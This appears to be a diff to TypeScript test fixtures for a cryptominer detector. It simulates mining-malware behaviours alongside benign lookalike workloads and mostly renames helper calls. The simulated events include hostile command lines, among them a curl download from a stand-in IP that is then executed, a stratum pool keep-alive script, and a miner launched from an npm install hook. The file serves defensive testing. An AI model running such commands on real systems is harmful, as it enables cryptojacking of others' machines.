@@ -23,7 +23,7 @@ const written = (m: Machine, by: number, path: string): void => { m.file(by, 'cr
 
 /** Started by a shell; full load on every core unless told otherwise. */
 function mine(m: Machine, parent: number, path: string, cmdline: string, how: { ip?: string; port?: number; minutes?: number; percent?: number; host?: number; name?: string; payload?: string; ask?: string } = {}): number {
-  const pid = m.run1(parent, path, cmdline);
+  const pid = m.spawn(parent, path, cmdline);
   if (how.ask !== undefined) m.ask(pid, how.ask);
   if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
   if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 3333, how.payload);
@@ -34,9 +34,9 @@ function mine(m: Machine, parent: number, path: string, cmdline: string, how: { 
 const simple = (name: string, path: string, cmdline: string, how: Parameters<typeof mine>[4] = {}, from: 'login' | 'cron' | 'web' | 'unit' = 'login'): Profile => ({
   name,
   play(m) {
-    const parent = from === 'login' ? m.login() : from === 'cron' ? m.cron(cmdline) : from === 'web' ? m.run1(m.worker(), '/usr/bin/dash', 'sh -c run') : undefined;
+    const parent = from === 'login' ? m.login() : from === 'cron' ? m.cron(cmdline) : from === 'web' ? m.spawn(m.worker(), '/usr/bin/dash', 'sh -c run') : undefined;
     if (parent !== undefined) { mine(m, parent, path, cmdline, how); return; }
-    const pid = m.unit('helper', path, cmdline);
+    const pid = m.service(path, cmdline, { unit: 'helper' });
     if (how.ask !== undefined) m.ask(pid, how.ask);
     if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
     if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 3333, how.payload);
@@ -110,7 +110,7 @@ export const miners: readonly Profile[] = [
   },
   {
     name: 'huge pages by a shell, miner beside it',
-    play(m) { const bash = m.login('root'); m.file(m.run1(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); mine(m, bash, '/opt/y/job', './job', { port: 443, minutes: 15 }); },
+    play(m) { const bash = m.login('root'); m.file(m.spawn(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); mine(m, bash, '/opt/y/job', './job', { port: 443, minutes: 15 }); },
   },
   {
     name: 'writes registers and huge pages itself',
@@ -118,13 +118,13 @@ export const miners: readonly Profile[] = [
   },
   {
     name: 'wallet in the shell\'s command, miner reads a file',
-    play(m) { const sh = m.run1(m.login(), '/usr/bin/bash', `bash -c cd /opt/y && echo ${wallet} > w && ./run`); mine(m, sh, '/opt/y/run', './run', { port: 443, minutes: 6 }); },
+    play(m) { const sh = m.spawn(m.login(), '/usr/bin/bash', `bash -c cd /opt/y && echo ${wallet} > w && ./run`); mine(m, sh, '/opt/y/run', './run', { port: 443, minutes: 6 }); },
   },
   {
     name: 'split: a script keeps it alive and asks the pool',
     play(m) {
       const sh = m.cron('bash -c ./keep.sh stratum+tcp://x.example.org:3333');
-      const keep = m.run1(sh, '/usr/bin/bash', 'bash /opt/y/keep.sh stratum+tcp://x.example.org:3333');
+      const keep = m.spawn(sh, '/usr/bin/bash', 'bash /opt/y/keep.sh stratum+tcp://x.example.org:3333');
       for (let i = 0; i < 3; i++) { const pid = mine(m, keep, '/opt/y/part', './part', { port: 443, minutes: 4 }); m.end(pid); }
     },
   },
@@ -134,19 +134,19 @@ export const miners: readonly Profile[] = [
   },
   {
     name: 'many processes of one file, each small',
-    play(m) { const sh = m.login(); const pids = [1, 2, 3, 4, 5, 6].map(() => m.run1(sh, '/var/tmp/w', './w')); m.connect(pids[0]!, far, 443); m.load(30, pids.map((pid) => ({ pid, percent: 60 })), 95); },
+    play(m) { const sh = m.login(); const pids = [1, 2, 3, 4, 5, 6].map(() => m.spawn(sh, '/var/tmp/w', './w')); m.connect(pids[0]!, far, 443); m.load(30, pids.map((pid) => ({ pid, percent: 60 })), 95); },
   },
   {
     name: 'downloaded, made runnable, works',
-    play(m) { const sh = m.run1(m.worker(), '/usr/bin/dash', 'sh -c x'); written(m, m.run1(sh, '/usr/bin/curl', 'curl -o /opt/z/up http://198.51.100.9/up'), '/opt/z/up'); const pid = m.fork(sh); m.exec(pid, '/opt/z/up', './up', { file_inode: 77, file_device: 8 }); m.connect(pid, far, 443); m.load(15, [{ pid, percent: all }], 97); },
+    play(m) { const sh = m.spawn(m.worker(), '/usr/bin/dash', 'sh -c x'); written(m, m.spawn(sh, '/usr/bin/curl', 'curl -o /opt/z/up http://198.51.100.9/up'), '/opt/z/up'); const pid = m.fork(sh); m.exec(pid, '/opt/z/up', './up', { file_inode: 77, file_device: 8 }); m.connect(pid, far, 443); m.load(15, [{ pid, percent: all }], 97); },
   },
   {
     name: 'npm script starts it',
-    play(m) { const npm = m.run1(m.login(), '/usr/bin/npm', 'npm install left'); const sh = m.run1(npm, '/usr/bin/dash', 'sh -c node-gyp'); mine(m, sh, '/root/node_modules/left/bin', './bin', { port: 443, minutes: 15 }); },
+    play(m) { const npm = m.spawn(m.login(), '/usr/bin/npm', 'npm install left'); const sh = m.spawn(npm, '/usr/bin/dash', 'sh -c node-gyp'); mine(m, sh, '/root/node_modules/left/bin', './bin', { port: 443, minutes: 15 }); },
   },
   {
     name: 'falls back to a second pool',
-    play(m) { const pid = m.run1(m.login(), '/opt/two', './two'); m.connect(pid, far, 443); m.wait(1000); m.connect(pid, other, 443); m.load(30, [{ pid, percent: all }], 98); },
+    play(m) { const pid = m.spawn(m.login(), '/opt/two', './two'); m.connect(pid, far, 443); m.wait(1000); m.connect(pid, other, 443); m.load(30, [{ pid, percent: all }], 98); },
   },
   {
     name: 'no packages known, in a hidden folder',
@@ -155,9 +155,9 @@ export const miners: readonly Profile[] = [
 ];
 
 function work(m: Machine, parent: number, path: string, cmdline: string, how: { minutes?: number; percent?: number | ((s: number) => number); host?: number; ip?: string; port?: number; serve?: number; write?: number; payload?: string; ask?: string } = {}): number {
-  const pid = m.run1(parent, path, cmdline);
+  const pid = m.spawn(parent, path, cmdline);
   if (how.ask !== undefined) m.ask(pid, how.ask);
-  if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, other, how.serve); }
+  if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, how.serve, other); }
   if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
   if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 443, how.payload);
   if (how.minutes !== undefined) m.load(how.minutes, [{ pid, percent: how.percent ?? all, ...(how.write !== undefined && { write: how.write }) }], how.host ?? 97);
@@ -165,7 +165,7 @@ function work(m: Machine, parent: number, path: string, cmdline: string, how: { 
 }
 
 const job = (name: string, path: string, cmdline: string, how: Parameters<typeof work>[4] = {}): Profile => ({ name, play(m) { work(m, m.login(), path, cmdline, how); } });
-const service = (name: string, path: string, cmdline: string, how: Parameters<typeof work>[4] = {}): Profile => ({ name, play(m) { const pid = m.unit(name.replaceAll(' ', '-'), path, cmdline); if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, other, how.serve); } if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port); if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 443, how.payload); m.load(how.minutes ?? 30, [{ pid, percent: how.percent ?? all, ...(how.write !== undefined && { write: how.write }) }], how.host ?? 97); } });
+const service = (name: string, path: string, cmdline: string, how: Parameters<typeof work>[4] = {}): Profile => ({ name, play(m) { const pid = m.service(path, cmdline, { unit: name.replaceAll(' ', '-') }); if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, how.serve, other); } if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port); if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 443, how.payload); m.load(how.minutes ?? 30, [{ pid, percent: how.percent ?? all, ...(how.write !== undefined && { write: how.write }) }], how.host ?? 97); } });
 const swings = (s: number): number => 40 + 38 * Math.sin(s / 40) + 20 * Math.sin(s / 7);
 
 export const honest: readonly Profile[] = [
@@ -235,37 +235,37 @@ export const honest: readonly Profile[] = [
   {
     name: 'BOINC: client and its workers',
     play(m) {
-      const boinc = m.unit('boinc-client', '/usr/bin/boinc', '/usr/bin/boinc');
+      const boinc = m.service('/usr/bin/boinc', '/usr/bin/boinc', { unit: 'boinc-client' });
       m.connect(boinc, far, 443);
-      const pids = [1, 2, 3, 4].map((slot) => m.run1(boinc, '/var/lib/boinc-client/projects/einstein.example.org/hsgamma_1.28_x86_64', `hsgamma --device ${slot}`));
+      const pids = [1, 2, 3, 4].map((slot) => m.spawn(boinc, '/var/lib/boinc-client/projects/einstein.example.org/hsgamma_1.28_x86_64', `hsgamma --device ${slot}`));
       m.load(90, pids.map((pid) => ({ pid, percent: 98 })), 98);
     },
   },
   {
     name: 'CI build in containers and /tmp',
     play(m) {
-      const runner = m.unit('gitlab-runner', '/usr/local/bin/gitlab-runner', 'gitlab-runner run');
+      const runner = m.service('/usr/local/bin/gitlab-runner', 'gitlab-runner run', { unit: 'gitlab-runner' });
       m.connect(runner, far, 443);
       for (let i = 0; i < 4; i++) {
-        const sh = m.run1(runner, '/usr/bin/bash', `bash -c make -j4 -o ${i}`);
-        m.load(4, [m.run1(sh, '/usr/bin/make', 'make -j4'), m.run1(sh, '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 'cc1 -O2 a.c'), m.run1(sh, `/tmp/builds/${i}/unit_test`, './unit_test')].map((pid) => ({ pid, percent: 120 })), 96);
+        const sh = m.spawn(runner, '/usr/bin/bash', `bash -c make -j4 -o ${i}`);
+        m.load(4, [m.spawn(sh, '/usr/bin/make', 'make -j4'), m.spawn(sh, '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 'cc1 -O2 a.c'), m.spawn(sh, `/tmp/builds/${i}/unit_test`, './unit_test')].map((pid) => ({ pid, percent: 120 })), 96);
       }
     },
   },
   {
     name: 'database machine with huge pages',
-    play(m) { const bash = m.login('root'); m.file(m.run1(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); work(m, bash, '/opt/db/bin/dbserver', 'dbserver --data /srv', { serve: 7000, minutes: 40 }); },
+    play(m) { const bash = m.login('root'); m.file(m.spawn(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); work(m, bash, '/opt/db/bin/dbserver', 'dbserver --data /srv', { serve: 7000, minutes: 40 }); },
   },
   {
     name: 'power tool reads registers',
-    play(m) { const bash = m.login('root'); m.run1(bash, '/usr/sbin/modprobe', 'modprobe msr'); m.file(m.run1(bash, '/usr/sbin/turbostat', 'turbostat'), 'write', '/dev/cpu/0/msr'); m.load(10, [{ pid: m.run1(bash, '/usr/bin/stress-ng', 'stress-ng --cpu 4'), percent: all }], 98); },
+    play(m) { const bash = m.login('root'); m.spawn(bash, '/usr/sbin/modprobe', 'modprobe msr'); m.file(m.spawn(bash, '/usr/sbin/turbostat', 'turbostat'), 'write', '/dev/cpu/0/msr'); m.load(10, [{ pid: m.spawn(bash, '/usr/bin/stress-ng', 'stress-ng --cpu 4'), percent: all }], 98); },
   },
   {
     name: 'shop that takes coins',
-    play(m) { const pid = m.unit('shop', '/srv/shop/shop', './shop --serve'); m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: 8080 }); m.flow(pid, far, 443, `POST /v1/invoice HTTP/1.1\r\n\r\n{"address":"${bitcoin}","eth":"${ether}"}`); m.load(20, [{ pid, percent: 80 }], 30); },
+    play(m) { const pid = m.service('/srv/shop/shop', './shop --serve', { unit: 'shop' }); m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: 8080 }); m.flow(pid, far, 443, `POST /v1/invoice HTTP/1.1\r\n\r\n{"address":"${bitcoin}","eth":"${ether}"}`); m.load(20, [{ pid, percent: 80 }], 30); },
   },
   {
     name: 'ethereum node\'s user asks it',
-    play(m) { const pid = m.run1(m.login(), '/usr/bin/node', 'node watch.js'); m.flow(pid, lan, 8545, `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"${ether}"},"latest"]}`); m.load(20, [{ pid, percent: 40 }], 20); },
+    play(m) { const pid = m.spawn(m.login(), '/usr/bin/node', 'node watch.js'); m.flow(pid, lan, 8545, `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"${ether}"},"latest"]}`); m.load(20, [{ pid, percent: 40 }], 20); },
   },
 ];
